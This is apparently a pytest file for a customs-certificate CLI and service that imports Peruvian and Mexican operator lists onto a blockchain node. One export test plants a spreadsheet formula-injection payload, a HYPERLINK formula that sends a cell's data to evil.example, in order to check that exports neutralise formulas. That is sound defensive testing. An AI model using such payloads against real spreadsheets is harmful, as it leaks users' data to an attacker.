"""National lists imported as a new user would, on a real node: the trial's failures reproduced with
lists in the administrations' shapes, and `cert import --json` one document whatever happens."""

from __future__ import annotations

import json
import time

import pytest
import requests
from aeo_list_files import write_csv
from click.testing import CliRunner
from documents import check_document
from helpers import serving
from openpyxl import load_workbook
from stdnum.pe import ruc
from test_imports import chain, officer  # noqa: F401  (the reverted chain; an officer's client)

from cadena_client.cli.main import cli
from cadena_client.domain.model import CertificateStatus, MasterData
from cadena_client.lists import files as aeo_files
from cadena_client.lists import imports

PERU = ["RUC", "Razón Social", "Dirección", "Tipo de Operador", "Fecha de Certificación", "Situación del OEA"]


@pytest.fixture
def cadena_cli(node, pilot_record, chain, tmp_path):  # noqa: F811
    """Runs `cadena` as officer `dev`: (exit code, stdout, stderr)."""

    def invoke(*args, dev=4):
        options = ["--rpc-url", node.url, "--deployment", str(pilot_record), "--mirror", str(tmp_path / "m.sqlite")]
        result = CliRunner().invoke(cli, [*options, "--dev-account", str(dev), *args])
        return result.exit_code, result.stdout, result.stderr

    return invoke


def rucs(count: int) -> list[str]:
    return [f"20{n:08d}" + ruc.calc_check_digit(f"20{n:08d}") for n in range(200000, 200000 + count)]


def peruvian_list(tmp_path, statuses: list[str], extra: list[list] = ()):
    rows = [
        [number, f"Operador Andino {n} S.A.C.", "Av. Argentina 100, Callao", "Exportador", "15/03/2024", status]
        for n, (number, status) in enumerate(zip(rucs(len(statuses)), statuses, strict=True))
    ]
    return write_csv(tmp_path / "oea-peru.csv", [PERU, *rows, *extra], ";", "cp1252")


def test_a_status_column_of_an_unknown_name_stops_the_import_until_mapped(cadena_cli, chain, pilot_record, tmp_path):  # noqa: F811
    """The trial: twelve suspended operators imported as active because the status column was left out."""
    path = peruvian_list(tmp_path, ["Suspendido"] * 12 + ["Certificado"] * 3)
    block = chain.w3.eth.block_number
    code, out, err = cadena_cli("cert", "import", str(path), "--country", "PE", "--json")
    document = json.loads(out)  # one document, nothing else on stdout
    check_document(document)
    assert (
        code == 1 and document["kind"] == "import" and "holds statuses (Suspendido, Certificado)" in document["refused"]
    )
    assert "--map status='Situación del OEA'" in err and chain.w3.eth.block_number == block
    code, out, _ = cadena_cli(
        "cert", "import", str(path), "--country", "PE", "--map", "status=Situación del OEA", "--json"
    )
    document = json.loads(out)
    assert code == 0 and document["counts"]["issued"] == 15 and document["counts"]["suspended"] == 12
    assert document["mapping"]["columns"]["status"] == {"header": "Situación del OEA", "found_by": "--map"}
    cadena = officer(chain, pilot_record)
    found = cadena.read_certificates([f"PE{number}" for number in rucs(15)])
    assert [c.status for c in found] == [CertificateStatus.SUSPENDED] * 12 + [CertificateStatus.ACTIVE] * 3
    recognised = [v.recognised for v in cadena.verify_many("MX", [c.tin for c in found])]
    assert recognised == [False] * 12 + [True] * 3  # the partners see the suspensions at once


def test_json_is_one_document_with_skip_invalid_and_ended_rows_never_on_chain_are_not_unchanged(
    cadena_cli,
    tmp_path,  # noqa: F811
):
    bad = [["PE20100070970-9", "Mal S.A.", "Lima", "Exportador", "15/03/2024", "Certificado"]]
    bad += [["20100070971", "Dígito S.A.", "Lima", "Exportador", "15/03/2024", "Certificado"]]
    path = peruvian_list(tmp_path, ["Certificado", "Cancelado", "Renuncia"], bad)
    args = ("cert", "import", str(path), "--country", "PE", "--map", "status=Situación del OEA", "--json")
    code, out, err = cadena_cli(*args)
    document = json.loads(out)
    assert code == 1 and [p["row"] for p in document["problems"]] == [5, 6] and "2 problems" in err
    code, out, err = cadena_cli(*args, "--skip-invalid")
    document = json.loads(out)  # the whole of stdout: no table, no line after it
    check_document(document)
    assert code == 0 and document["refused"] is None and [p["row"] for p in document["problems"]] == [5, 6]
    assert document["counts"]["issued"] == 1 and document["counts"]["ended, never on the chain"] == 2
    assert document["counts"]["unchanged"] == 0 and "left out (--skip-invalid)" in err


def test_malformed_and_foreign_identifiers_in_a_mexican_list_are_refused(cadena_cli, tmp_path):
    grid = [
        ["RFC", "Denominación o Razón Social", "Domicilio Fiscal", "Rubro", "Fecha de Autorización", "Estatus"],
        ["MX-12 34", "Corto S.A. de C.V.", "Calle 1", "Importador y/o Exportador", "01/02/2024", "Vigente"],
        ["PE20100070970", "Peruana S.A.C.", "Calle 2", "Agente Aduanal", "01/02/2024", "Vigente"],
        ["EPA180101AB1", "Bien S.A. de C.V.", "Calle 3", "Agente Aduanal", "01/02/2024", "Vigente"],
    ]
    code, out, err = cadena_cli("cert", "import", str(write_csv(tmp_path / "mx.csv", grid)), "--country", "MX", dev=2)
    assert code == 1 and "2 problems in mx.csv; nothing was sent" in err
    assert "'MX-12 34': it is not a valid RFC" in out and "carries the prefix PE of Peru" in out


def test_problems_come_first_and_warnings_are_summarised(cadena_cli, tmp_path):
    header = ["RFC", "Denominación o Razón Social", "Rubro", "Fecha de Autorización", "Fecha de Vencimiento", "Estatus"]
    rows = [
        [f"E{a}{b}180101AB1", "Vieja S.A.", "Agente Aduanal", "01/02/2018", "01/02/2021", "Vigente"]
        for a in "AB"
        for b in "ABCD"
    ]
    rows += [["EPZ180101AB1", "Mala S.A.", "Contrabandista", "01/02/2018", "", "Vigente"]]
    code, out, err = cadena_cli(
        "cert", "import", str(write_csv(tmp_path / "mx.csv", [header, *rows])), "--country", "MX", dev=2
    )
    assert code == 1 and "1 problem in mx.csv; nothing was sent" in err
    problems, warnings = (
        out.index("Contrabandista"),
        out.index("8 warnings: rows marked active whose expiry has passed"),
    )
    assert problems < warnings and "rows 2, 3, 4, 5, 6 and 3 more (--json lists them all)" in out
    assert out.count("is marked active but expired") == 0  # summarised: no row of them printed


def test_every_export_writes_formulas_as_text_through_the_service(node, pilot_record, tmp_path):
    name, address = '=HYPERLINK("http://evil.example/?d="&B3,"Click")', "@SUM(1+1)"
    with serving(node.url, pilot_record, tmp_path) as (url, officer):
        officer.issue(MasterData("MXEVIL00000001", name, address, "importer", "2024-01-01"), visibility="published")
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not requests.get(f"{url}/v1/certificates/MXEVIL00000001").ok:
            time.sleep(0.1)
        for fmt in ("csv", "xlsx"):
            body = requests.get(f"{url}/v1/aeo-list", params={"country": "MX", "format": fmt}).content
            (tmp_path / f"export.{fmt}").write_bytes(body)
    sheet = load_workbook(tmp_path / "export.xlsx").active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert [name, address] in [[cell.value for cell in row][2:4] for row in sheet.iter_rows()]
    text = (tmp_path / "export.csv").read_text(encoding="utf-8-sig")
    assert "\n=" not in text and ",=" not in text and ",@" not in text
    for fmt in ("csv", "xlsx"):
        (entry,) = [
            e
            for e in imports.check(aeo_files.read(tmp_path / f"export.{fmt}"), "MX").entries
            if e.master.tin == "MXEVIL00000001"
        ]
        assert (entry.master.name, entry.master.address) == (name, address)


def test_a_template_in_a_countrys_shape_plans_as_it_is(cadena_cli, tmp_path):
    path = tmp_path / "oea-pe.xlsx"
    code, out, _ = cadena_cli("template", str(path), "--country", "PE")
    assert code == 0 and "Superintendencia Nacional de Aduanas" in out
    code, out, err = cadena_cli("cert", "import", str(path), "--country", "PE", "--plan", "--json")
    document = json.loads(out)
    assert code == 0 and document["counts"]["issued"] == 2 and document["counts"]["suspended"] == 1
    assert {c["found_by"] for c in document["mapping"]["columns"].values()} == {"profile PE"}
    assert document["mapping"]["identifiers"] == {"20100070970": "PE20100070970", "20131312955": "PE20131312955"}
    code, out, err = cadena_cli("template", str(tmp_path / "us.csv"), "--country", "US")
    assert code == 1 and "no list shape for US: profiles ship for AR, BO, BR" in err
